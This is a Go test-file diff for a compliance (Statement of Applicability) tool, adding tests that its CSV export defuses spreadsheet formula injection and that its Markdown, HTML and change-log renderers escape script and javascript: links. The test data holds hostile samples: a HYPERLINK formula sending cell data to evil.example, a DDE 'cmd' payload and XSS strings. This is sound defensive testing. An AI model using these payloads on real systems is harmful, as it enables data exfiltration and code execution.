@@ -107,7 +107,7 @@ func TestMarkdownGolden(t *testing.T) {
 	text := string(md)
 	assert.Contains(t, text, "| Organisation | Example Ledger Ltd |")
 	assert.Contains(t, text, "| Total | 93 | 80 | 12 | 1 |")
-	assert.Contains(t, text, `Regulatory: DORA Art. 9; "ICT risk", &lt;b&gt;bold&lt;/b&gt; (line one<br>line two\ with backslash)`)
+	assert.Contains(t, text, `Regulatory: DORA Art. 9; "ICT risk", &lt;b&gt;bold&lt;/b&gt; (line one<br>line two\\ with backslash)`)
 	assert.Contains(t, text, `Policy set \| reviewed yearly<br>by the board`)
 }
 
@@ -134,7 +134,8 @@ func TestSummary(t *testing.T) {
 	assert.Equal(t, 93, sum.Total.Entries)
 	assert.Equal(t, 81, sum.Total.Included)
 	assert.Equal(t, 12, sum.Total.Excluded)
-	assert.Equal(t, 12, sum.Total.ByStatus[NotApplicable])
+	assert.Equal(t, 12, sum.Total.ByStatus(NotApplicable))
+	assert.Equal(t, 12, sum.Total.NotApplicable)
 	require.Len(t, sum.Themes, 4)
 	assert.Equal(t, "physical", sum.Themes[2].Theme)
 	assert.Equal(t, 14, sum.Themes[2].Entries)
@@ -142,4 +143,94 @@ func TestSummary(t *testing.T) {
 	h, rows := sum.SummaryTable()
 	assert.Equal(t, "Theme", h[0])
 	assert.Equal(t, []string{"Total", "93", "81", "12", "0", "0", "1", "1", "79", "12", "0"}, rows[4])
+}
+
+// TestCSVFormulaInjection: no cell of the CSV begins with what a
+// spreadsheet runs as a formula, and DecodeCSV still reads every value
+// back, one that begins with an apostrophe included (OWASP CSV
+// injection).
+func TestCSVFormulaInjection(t *testing.T) {
+	hostile := []string{
+		`=HYPERLINK("http://evil.example/?x="&A1,"click")`,
+		"+1+cmd|' /C calc'!A0",
+		"-2+3",
+		"@SUM(A1:A9)",
+		"\t=1",
+		"\r=1",
+		"'quoted by hand",
+		"''two",
+	}
+	s := testSoA(t)
+	for i, h := range hostile {
+		e := &s.Entries[i]
+		e.Implementation, e.Owner, e.Title = h, h, h
+		e.Evidence = []string{h, "ok"}
+		e.Notes = []string{h}
+		if e.Applicability == Excluded {
+			e.Justification = h
+		}
+	}
+	b, err := EncodeCSV(s)
+	require.NoError(t, err)
+	recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
+	require.NoError(t, err)
+	for i, r := range recs {
+		for j, c := range r {
+			if c != "" {
+				assert.NotContains(t, "=+-@\t\r", c[:1], "row %d cell %d %q begins a formula", i, j, c)
+			}
+		}
+	}
+	assert.Equal(t, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`, recs[1][colImplementation])
+	assert.Equal(t, "''quoted by hand", recs[7][colOwner])
+
+	back, err := DecodeCSV(b)
+	require.NoError(t, err)
+	assert.Equal(t, s.Entries, back, "read back without loss")
+
+	// A cell that a person began with an apostrophe keeps it unless the
+	// apostrophe defuses a formula (the rule of internal/table, shared
+	// with risk's CSV).
+	head := strings.SplitN(string(b), "\r\n", 2)[0] + "\r\n"
+	got, err := DecodeCSV([]byte(head + "5.1,'Title,,undecided,,,,'=Owner,,,,,,,\r\n"))
+	require.NoError(t, err)
+	assert.Equal(t, "'Title", got[0].Title)
+	assert.Equal(t, "=Owner", got[0].Owner)
+}
+
+// TestRenderersEscapeEveryText: text from the SoA never becomes markup in
+// the Markdown, the HTML or the change log, whichever field it is in.
+func TestRenderersEscapeEveryText(t *testing.T) {
+	const x = `<script>alert(1)</script>[a](javascript:alert(2))`
+	s := testSoA(t)
+	h := &s.Header
+	h.Organization, h.Scope, h.Version, h.PreparedBy, h.ApprovedBy, h.Catalog = x, x, x, x, x, x
+	h.ApprovedAt = asOf
+	s.Entries = s.Entries[:3]
+	for i := range s.Entries {
+		e := &s.Entries[i]
+		e.Title, e.Theme, e.Owner, e.Implementation, e.Provider = x, x, x, x, x
+		e.Evidence = []string{x}
+		e.Responsibility = Shared
+		e.Reasons = append(e.Reasons, Reason{Kind: Legal, Reference: x, Note: x})
+	}
+	older := testSoA(t)
+	older.Header.Version = x
+	older.Entries = older.Entries[:3]
+
+	md := string(Markdown(s))
+	html, err := HTML(s)
+	require.NoError(t, err)
+	log := string(Diff(older, s).Markdown())
+	for name, out := range map[string]string{"markdown": md, "html": string(html), "changelog": log} {
+		t.Run(name, func(t *testing.T) {
+			assert.NotContains(t, out, "<script")
+			if name != "html" {
+				assert.NotRegexp(t, `[^\\]\]\(javascript`, out, "a Markdown link")
+			}
+			assert.Contains(t, out, "&lt;script&gt;")
+		})
+	}
+	assert.Contains(t, md, `| Organisation | &lt;script&gt;alert(1)&lt;/script&gt;\[a\](javascript:alert(2)) |`)
+	assert.Contains(t, log, `# SoA changes from version &lt;script&gt;alert(1)&lt;/script&gt;\[a\](javascript:alert(2)) to`)
 }
